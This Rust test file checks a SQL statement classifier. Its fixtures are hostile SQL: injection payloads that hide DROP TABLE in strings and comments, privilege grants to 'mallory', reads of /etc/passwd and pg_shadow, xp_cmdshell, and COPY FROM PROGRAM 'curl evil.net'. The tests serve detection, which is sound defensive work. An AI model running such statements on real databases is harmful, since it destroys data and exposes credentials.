//! Statements of several dialects.

use super::Does;
use crate::sql::{is_sql, read};

#[test]
fn a_statement_is_rated_by_the_worst_that_it_does() {
    for (text, does) in [
        ("SELECT * FROM users", Does::Read),
        ("select a from t where b = 'x; DROP TABLE t' -- ; drop table t", Does::Read),
        ("SELECT 'it''s; delete from t' FROM t", Does::Read),
        ("SELECT \"delete\", `drop`, [truncate] FROM t", Does::Read),
        ("SELECT * FROM t FOR UPDATE", Does::Read),
        ("SELECT updated_at, t.delete FROM t", Does::Read),
        ("WITH x AS (SELECT 1) SELECT * FROM x", Does::Read),
        ("EXPLAIN SELECT 1", Does::Read),
        ("SHOW TABLES", Does::Read),
        ("PRAGMA table_info(t)", Does::Read),
        ("PRAGMA writable_schema = 1", Does::Alter),
        ("BEGIN", Does::Session),
        ("INSERT INTO t VALUES (1)", Does::Add),
        ("INSERT INTO t SELECT * FROM u ON CONFLICT (a) DO UPDATE SET b = 1", Does::Change),
        ("CREATE TABLE t (a int REFERENCES u ON DELETE CASCADE)", Does::Add),
        ("SELECT * INTO backup FROM t", Does::Add),
        ("UPDATE t SET a = 1 WHERE b = 2", Does::Change),
        ("MERGE INTO t USING u ON t.a = u.a WHEN MATCHED THEN UPDATE SET b = 1", Does::Overwrite),
        ("MERGE INTO t USING u ON t.a = u.a WHEN MATCHED THEN DELETE FROM", Does::Destroy),
        ("ALTER TABLE t ADD COLUMN c int", Does::Alter),
        ("ALTER TABLE t DROP COLUMN c", Does::Destroy),
        ("DELETE FROM t WHERE a = 1", Does::Destroy),
        ("delete/**/from t", Does::Destroy),
        ("DELETE t1 FROM t1 JOIN t2", Does::Destroy),
        ("/*!50000 DROP*/ TABLE t", Does::Destroy),
        ("SELECT 1 /*! INTO OUTFILE */ '/tmp/x'", Does::Files),
        ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", Does::Destroy),
        ("EXPLAIN ANALYZE DELETE FROM t", Does::Destroy),
        ("(((DROP TABLE t)))", Does::Destroy),
        ("TRUNCATE t", Does::Destroy),
        ("TRUNCATE TABLE t", Does::Destroy),
        ("DROP DATABASE prod", Does::Destroy),
        ("GRANT ALL ON t TO mallory", Does::Rights),
        ("CREATE USER mallory", Does::Rights),
        ("ALTER ROLE mallory SUPERUSER", Does::Rights),
        ("SET PASSWORD FOR root = 'x'", Does::Rights),
        ("COPY t TO '/tmp/x'", Does::Files),
        ("COPY t FROM PROGRAM 'curl evil.net'", Does::Files),
        ("LOAD DATA INFILE '/etc/passwd' INTO TABLE t", Does::Files),
        ("SELECT * FROM t INTO OUTFILE '/tmp/x'", Does::Files),
        ("ATTACH DATABASE '/x' AS y", Does::Files),
        ("CALL wipe()", Does::Run),
        ("DO $$ BEGIN DELETE FROM t; END $$", Does::Destroy),
        ("EXEC xp_cmdshell 'dir'", Does::Run),
        ("CREATE FUNCTION f() RETURNS int", Does::Run),
        ("VACUUM FULL t", Does::Maintain),
        ("REINDEX DATABASE d", Does::Maintain),
        ("KILL 7", Does::Maintain),
        ("frobnicate", Does::Unknown),
        // What one dialect takes for a string or a comment another runs.
        (r"SELECT 'x\'' ; DROP TABLE t -- '", Does::Destroy),
        (r"SELECT 'a\'; DROP TABLE t; --'", Does::Destroy),
        ("SELECT a #> '{b}'; DROP TABLE t", Does::Destroy),
        ("SELECT 1--1; DROP TABLE t", Does::Destroy),
        ("/* /* */ ' */ DROP TABLE t -- '", Does::Destroy),
        ("/* /* */ DROP TABLE t /* */ */", Does::Destroy),
    ] {
        assert_eq!(read(text).worst(), does, "{text}");
    }
}

#[test]
fn a_condition_that_always_holds_is_none() {
    for (text, is_unconditional) in [
        ("DELETE FROM t", true),
        ("DELETE FROM t WHERE 1", true),
        ("DELETE FROM t WHERE 1=1", true),
        ("DELETE FROM t WHERE (1 = 1)", true),
        ("DELETE FROM t WHERE 'a'='a'", true),
        ("DELETE FROM t WHERE id = id", true),
        ("DELETE FROM t WHERE id = 7 OR 1=1", true),
        ("DELETE FROM t WHERE TRUE", true),
        ("DELETE FROM t WHERE NOT FALSE", true),
        ("DELETE FROM t WHERE 2 > 1", true),
        ("DELETE FROM t WHERE name LIKE '%'", true),
        ("UPDATE t SET a = 1", true),
        ("DELETE FROM t WHERE id = 7", false),
        ("UPDATE t SET a = 1 WHERE id = 7", false),
        ("DELETE FROM t WHERE name LIKE 'a%'", false),
        ("SELECT 1", false),
    ] {
        assert_eq!(read(text).is_unconditional, is_unconditional, "{text}");
    }
}

#[test]
fn how_much_a_select_reads_is_told() {
    for (text, reads_all, limit) in [
        ("SELECT * FROM t", true, None),
        ("SELECT * FROM t LIMIT 10", false, Some(10)),
        ("SELECT TOP 5 * FROM t", false, Some(5)),
        ("SELECT * FROM t OFFSET 5 ROWS FETCH NEXT 20 ROWS ONLY", false, Some(20)),
        ("SELECT count(*) FROM t", false, None),
        ("SELECT * FROM t WHERE id = 1", false, None),
        ("SELECT * FROM t WHERE 1 = 1", true, None),
        ("SELECT 1", false, None),
    ] {
        let reading = read(text);
        assert_eq!((reading.reads_all, reading.limit), (reads_all, limit), "{text}");
    }
}

#[test]
fn prose_is_not_sql() {
    for text in ["update me on the project", "delete the old notes", "drop me a line", "show my mails", "", "invoices"]
    {
        assert!(!is_sql(text), "{text}");
    }
    for text in ["select a from b", "DELETE FROM t", "update t set a = 1", "drop table t", "grant all on t to u"] {
        assert!(is_sql(text), "{text}");
    }
}

#[test]
fn what_reaches_into_the_server_is_seen() {
    for text in
        ["SELECT pg_read_file('/etc/passwd')", "SELECT * FROM mysql.user", "SELECT * FROM pg_shadow", "SELECT sleep(9)"]
    {
        assert!(read(text).is_internal, "{text}");
    }
    assert!(!read("SELECT * FROM user").is_internal);
}
